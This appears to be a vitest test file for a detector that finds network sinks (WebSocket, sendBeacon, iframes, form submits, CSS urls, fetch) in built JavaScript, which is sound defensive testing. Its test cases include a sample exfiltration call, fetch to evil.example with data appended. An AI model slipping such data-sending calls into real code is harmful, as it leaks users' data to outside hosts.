import { expect, it } from "vitest";
import { sinksIn } from "../../network-sinks.mjs";

it.each([
  "new RTCPeerConnection()",
  "navigator.sendBeacon(u)",
  "new WebSocket(u)",
  "window.open(u)",
  "location.href=u",
  "location=u",
  "<iframe src=x>",
  "document.createElement('iframe')",
  '<a ping="x">',
  "f.submit()",
  '<form action="/x">',
  '<link rel="preconnect" href=x>',
  "@import 'x.css'",
  "a{background:url(//evil.example/x)}",
  'fetch("https://evil.example/?q="+data)',
  "wss://evil.example/",
])("a built file with %s is told of", (text) => {
  expect(sinksIn("x.js", text)).not.toEqual([]);
});

it("what the product has is not", () => {
  expect(sinksIn("x.js", 'if(location.href===u)fetch(new URL("./a.wasm",import.meta.url));s="http://www.w3.org/2000/svg";"https://example.com/"')).toEqual([]);
});
